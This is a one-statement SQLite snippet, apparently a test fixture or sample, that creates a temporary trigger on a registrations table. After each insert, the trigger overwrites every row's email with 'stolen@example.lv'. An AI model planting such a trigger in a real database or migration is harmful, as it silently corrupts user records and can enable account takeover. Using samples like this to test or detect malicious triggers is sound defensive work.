CREATE TEMP TRIGGER p_mig_temp_trigger_tr AFTER INSERT ON main.registrations BEGIN
  UPDATE main.registrations SET email = 'stolen@example.lv';
END;
